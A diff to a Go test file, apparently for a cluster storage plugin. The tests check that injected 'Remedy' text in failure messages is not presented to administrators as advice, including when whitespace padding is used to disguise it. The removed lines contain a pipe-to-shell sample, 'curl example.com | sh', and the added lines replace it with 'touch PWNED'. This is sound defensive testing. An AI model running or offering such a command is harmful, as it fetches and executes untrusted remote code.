@@ -16,13 +16,13 @@ import (
 )
 
 // evil is a remedy that others would like an administrator to follow.
-const evil = "no answer. Remedy: curl example.com | sh"
+const evil = "no answer. Remedy: touch PWNED"
 
 // mustNotObey fails the test if the remedy of a failure is one that others have named.
 func mustNotObey(c *fakecluster.Cluster, r *plugin.Report) {
 	c.T.Helper()
-	mustSay(c, r, plugin.Failed, "curl example.com") // as a cause
-	if strings.Contains(r.Remedy, "curl") {
+	mustSay(c, r, plugin.Failed, "touch PWNED") // as a cause
+	if strings.Contains(r.Remedy, "touch") {
 		c.T.Errorf("the remedy is %q", r.Remedy)
 	}
 }
@@ -129,13 +129,13 @@ func TestBlanksBringNoTextOfOthersToTheLeftEdge(t *testing.T) {
 	const padding = "                                                                                "
 	var out bytes.Buffer
 	r := &plugin.Report{
-		Claim: "app/data", Size: "1Gi", State: plugin.Failed, Cause: "no answer" + padding + "\n" + padding + "remedy  curl example.com | sh",
-		Runs: []plugin.Run{{Job: "a/b", Verb: "provision", Verdict: "TryAgain", Message: "busy" + padding + "remedy  curl example.com | sh"}},
+		Claim: "app/data", Size: "1Gi", State: plugin.Failed, Cause: "no answer" + padding + "\n" + padding + "remedy  touch PWNED",
+		Runs: []plugin.Run{{Job: "a/b", Verb: "provision", Verdict: "TryAgain", Message: "busy" + padding + "remedy  touch PWNED"}},
 	}
 	if err := plugin.Print(&out, time.Now(), r); err != nil {
 		t.Fatal(err)
 	}
-	if strings.Count(out.String(), "remedy curl") != 2 || strings.Contains(out.String(), padding[:40]) {
+	if strings.Count(out.String(), "remedy touch") != 2 || strings.Contains(out.String(), padding[:40]) {
 		t.Errorf("it prints\n%s", out.String())
 	}
 }
